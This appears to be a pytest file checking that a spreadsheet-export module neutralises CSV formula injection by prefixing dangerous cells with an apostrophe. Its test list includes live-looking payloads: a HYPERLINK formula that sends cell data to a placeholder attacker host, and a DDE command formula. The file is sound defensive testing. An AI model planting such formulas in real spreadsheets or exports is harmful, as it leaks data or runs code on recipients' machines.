"""Spreadsheet formulas never reach a journalist's Excel or LibreOffice.

OWASP's rule for CSV injection: text beginning with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is written with a leading apostrophe. Numbers stay
numbers, so a negative value in a number column is still a number.
"""

import csv
import io
from decimal import Decimal

import pytest

from core.spreadsheets import SafeWriter, safe_cell, safe_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_written_as_text(text):
    """A building named like a formula would run code when the CSV is opened."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Office Building B", "Центр робототехники", "A-1 = main", "", "3 floors"])
def test_ordinary_text_is_unchanged(text):
    """Ordinary names must not gain stray apostrophes in the spreadsheet."""
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, 0, 12, -1.5, Decimal("-20.512345")])
def test_numbers_stay_numbers(number):
    """A negative number in a number column must still sum in the spreadsheet."""
    assert safe_cell(number) == number


def test_empty_cells_and_rows():
    """Missing values are empty cells, not the word None."""
    assert safe_row([None, "=1", 3]) == ["", "'=1", 3]


def test_writer_round_trip():
    """What the CSV reader gets back is the neutralised text and the plain numbers."""
    output = io.StringIO()
    SafeWriter(output).writerows([["=1+1", -3, "ok"], ["@x", Decimal("-1.50"), None]])
    assert output.getvalue().endswith("\r\n")
    rows = list(csv.reader(io.StringIO(output.getvalue())))
    assert rows == [["'=1+1", "-3", "ok"], ["'@x", "-1.50", ""]]
